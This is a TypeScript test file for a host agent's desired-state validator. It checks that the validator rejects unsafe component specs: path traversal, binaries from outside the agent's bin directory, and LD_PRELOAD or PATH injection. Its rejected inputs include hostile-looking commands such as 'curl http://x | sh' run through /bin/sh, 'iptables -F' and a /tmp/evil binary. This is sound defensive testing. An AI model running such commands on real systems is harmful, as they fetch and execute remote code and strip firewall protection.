import fc from 'fast-check';
import { isComponentName, isProbeType, PROBE_TYPES, teardownCommandProblem } from '@corral/contracts';
import { validateDesiredState } from './validate-desired-state';

const good = () => ({
  hostId: 'h1',
  revision: 3,
  components: [
    {
      name: 'etcd',
      kind: 'etcd',
      specHash: 'abc',
      spec: {
        name: 'etcd',
        kind: 'etcd',
        binary: 'etcd',
        args: ['--x'],
        files: [{ path: 'a', content: 'b', mode: 0o600 }],
        ports: [2379],
        probe: { type: 'http', port: 2379, intervalSeconds: 5, timeoutSeconds: 1, failureThreshold: 3 },
      },
    },
  ],
});

const IMAGE = { id: '1f0c7e52-9a4e-4f55-9d7c-0e6e5c1f3a10', name: 'corral.local/busybox:1.35.0', sha256: 'a'.repeat(64), sizeBytes: 1062400, manifestDigest: `sha256:${'b'.repeat(64)}` };

describe('validateDesiredState', () => {
  it('accepts a well-formed state', () => {
    expect(validateDesiredState(good())).toEqual(good());
    expect(validateDesiredState({ ...good(), images: [IMAGE] })).toEqual({ ...good(), images: [IMAGE] });
    expect(validateDesiredState({ hostId: 'h', revision: 0, components: [] }).revision).toBe(0);
    const probed = good();
    (probed.components[0].spec as any).probe = { type: 'exec', command: ['${binDir}/ctr', 'version'], intervalSeconds: 1, timeoutSeconds: 1, failureThreshold: 1 };
    (probed.components[0].spec as any).env = { GODEBUG: 'x' };
    expect(validateDesiredState(probed)).toEqual(probed);
    const tornDown = good();
    (tornDown.components[0].spec as any).teardown = [
      { when: 'before-stop', command: ['${binDir}/corral-teardown', 'containers', '--address', '${dataDir}/containerd.sock'], timeoutSeconds: 60 },
      { when: 'after-stop', command: ['corral-coredns', '--cleanup=169.254.20.10'], timeoutSeconds: 10 },
    ];
    expect(validateDesiredState(tornDown)).toEqual(tornDown);
  });

  it.each<[string, (d: any) => void, RegExp]>([
    ['bad name', (d) => (d.components[0].name = '../etc'), /not a valid component name/],
    ['duplicate', (d) => d.components.push(d.components[0]), /appears twice/],
    ['no revision', (d) => delete d.revision, /revision/],
    ['args not strings', (d) => (d.components[0].spec.args = [1]), /args/],
    ['file without mode', (d) => delete d.components[0].spec.files[0].mode, /octal mode/],
    ['probe without port', (d) => delete d.components[0].spec.probe.port, /needs a port/],
    ['exec probe without command', (d) => (d.components[0].spec.probe = { type: 'exec', intervalSeconds: 1, timeoutSeconds: 1, failureThreshold: 1 }), /needs a command/],
    ['an exec probe outside --bin-dir', (d) => (d.components[0].spec.probe = { type: 'exec', command: ['/bin/sh', '-c', 'true'], intervalSeconds: 1, timeoutSeconds: 1, failureThreshold: 1 }), /probe\.command executable "\/bin\/sh" must be a file name in the agent's --bin-dir/],
    ['an exec probe climbing out of ${binDir}', (d) => (d.components[0].spec.probe = { type: 'exec', command: ['${binDir}/../sh'], intervalSeconds: 1, timeoutSeconds: 1, failureThreshold: 1 }), /--bin-dir/],
    ['a teardown step running a binary outside --bin-dir', (d) => (d.components[0].spec.teardown = [{ when: 'after-stop', command: ['/tmp/evil', '--now'], timeoutSeconds: 5 }]), /spec\.teardown\[0\]\.command executable "\/tmp\/evil" must be a file name in the agent's --bin-dir/],
    // the server chose the script a shell step runs: no shell, wherever it lives (issue 12)
    ['a teardown step running /bin/sh -c', (d) => (d.components[0].spec.teardown = [{ when: 'before-stop', command: ['/bin/sh', '-c', 'curl http://x | sh'], timeoutSeconds: 5 }]), /spec\.teardown\[0\]\.command executable "\/bin\/sh" must be a file name in the agent's --bin-dir \(a plain name or \$\{binDir\}\/<name>\)$/],
    ['a teardown step running a system tool', (d) => (d.components[0].spec.teardown = [{ when: 'after-stop', command: ['/usr/sbin/iptables', '-F'], timeoutSeconds: 5 }]), /spec\.teardown\[0\]\.command executable "\/usr\/sbin\/iptables" must be a file name in the agent's --bin-dir/],
    ['LD_PRELOAD in env', (d) => (d.components[0].spec.env = { LD_PRELOAD: '/tmp/x.so' }), /spec\.env name LD_PRELOAD may not be set/],
    ['PATH in env', (d) => (d.components[0].spec.env = { PATH: '/tmp' }), /PATH may not be set/],
    ['LD_LIBRARY_PATH in an init step env', (d) => (d.components[0].spec.init = [{ name: 'i', binary: 'etcdutl', args: [], output: 'x', env: { LD_LIBRARY_PATH: '/tmp' } }]), /init\[0\]\.env name LD_LIBRARY_PATH/],
    ['an env value that is no string', (d) => (d.components[0].spec.env = { A: 1 }), /spec\.env A must be a string/],
    ['unknown probe', (d) => (d.components[0].spec.probe.type = 'grpc'), /probe.type/],
    ['images not an array', (d) => (d.images = {}), /images must be an array/],
    ['an image id that is no path segment', (d) => (d.images = [{ ...IMAGE, id: '../../x' }]), /images\[0\]\.id/],
    ['an image name with a space', (d) => (d.images = [{ ...IMAGE, name: 'a b:1' }]), /images\[0\]\.name/],
    ['an image name twice', (d) => (d.images = [IMAGE, { ...IMAGE, id: 'other' }]), /appears twice/],
    ['an image without sha256', (d) => (d.images = [{ ...IMAGE, sha256: 'ABC' }]), /images\[0\]\.sha256/],
    ['an image size that is no integer', (d) => (d.images = [{ ...IMAGE, sizeBytes: 1.5 }]), /sizeBytes/],
  ])('rejects %s', (_what, mutate, message) => {
    const d = good();
    mutate(d);
    expect(() => validateDesiredState(d)).toThrow(message);
  });
});

describe('the agent takes exactly the component names and probe types of the shared rule (as the server does)', () => {
  const verdict = (mutate: (d: any) => void) => {
    const d = good() as any;
    mutate(d);
    try {
      validateDesiredState(d);
      return true;
    } catch {
      return false;
    }
  };
  const names = fc.oneof(fc.stringMatching(/^[-a-z0-9.A-Z_/]{0,70}$/), fc.constantFrom('a.b', 'x'.repeat(63), 'x'.repeat(64), '-a', 'a-', 'kube-apiserver'));

  it('component names', () => {
    fc.assert(fc.property(names, (name) => verdict((d) => (d.components[0].name = name)) === isComponentName(name)));
  });
  it('probe types', () => {
    for (const type of [...PROBE_TYPES, 'grpc', '', 'HTTP']) expect(verdict((d) => (d.components[0].spec.probe = { ...d.components[0].spec.probe, type, command: ['true'] }))).toBe(isProbeType(type));
  });
  // the same executables as the server's DTO spec (component-spec.dto.spec.ts)
  const teardownExecutables = fc.oneof(
    fc.constantFrom('/bin/sh', '/usr/bin/sh', '/usr/sbin/iptables', '/sbin/ip6tables', '/tmp/sh', '/bin/bash', '/bin/../tmp/sh', '/usr/local/bin/sh', '${binDir}/kube-proxy', '${binDir}/../sh', 'kube-proxy', './x', '/', 'sh'),
    fc.string({ maxLength: 40 }),
    fc.string({ maxLength: 20 }).map((s) => `/bin/${s}`),
  );
  it('teardown commands', () => {
    fc.assert(
      fc.property(teardownExecutables, (executable) =>
        verdict((d) => ((d.components[0].spec as any).teardown = [{ when: 'after-stop', command: [executable, '-c', 'true'], timeoutSeconds: 5 }])) === (teardownCommandProblem([executable, '-c', 'true']) === null),
      ),
    );
  });
});
